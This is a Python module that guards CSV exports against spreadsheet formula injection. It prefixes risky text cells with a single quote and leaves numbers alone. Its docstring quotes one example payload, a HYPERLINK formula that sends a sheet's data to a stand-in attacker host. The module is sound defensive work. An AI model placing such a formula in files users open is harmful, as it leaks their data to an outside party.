"""CSV files meant to be opened in a spreadsheet (report sections, an import's rejected rows).

Why: a cell that starts with =, +, -, @, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets, and customer data ends up in these files (a trait typed into a
form, a value of an imported file): `=HYPERLINK("http://evil.example/?"&A1,"Click")` would send
the sheet's data away, or worse. Such a text cell gets a leading single quote, as OWASP advises
("CSV Injection"), so it shows as the text it is. Numbers stay numbers, negative ones included
(-0.25 is not a formula). Machine-oriented exports (JSON, JSON Lines, the API) and data-subject
exports are not spreadsheets and never go through this.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_cell(value):
    """`value` as a spreadsheet may show it without evaluating it: a text that a spreadsheet
    would read as a formula is prefixed with a single quote; anything else is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def spreadsheet_csv(rows: Iterable[Sequence]) -> str:
    """CSV text of `rows` (header first) with every cell made safe for a spreadsheet."""
    out = io.StringIO()
    csv.writer(out).writerows([spreadsheet_cell(value) for value in row] for row in rows)
    return out.getvalue()
